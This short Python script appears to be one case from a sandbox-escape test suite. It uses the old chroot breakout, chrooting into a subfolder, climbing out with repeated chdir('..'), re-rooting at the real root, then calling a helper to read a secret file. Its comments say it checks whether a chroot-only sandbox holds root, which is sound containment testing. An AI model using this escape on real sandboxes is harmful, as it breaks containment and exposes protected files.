# Leaves a root as programs have left chroots for decades: chroot into a folder while standing outside of it, then go up.
# Why: a sandbox that is only a chroot does not hold root.
# needs: any
# at-none: escapes as root
import os
from attempt import facts, in_child, run, steal_file, syscall

os.makedirs('small', exist_ok=True)


def leave():
    syscall('chroot', b'small')
    for _ in range(64):
        os.chdir('..')
    syscall('chroot', b'.')
    steal_file(facts['secretFile'])


def in_a_child():
    in_child(leave)


run(in_a_child)
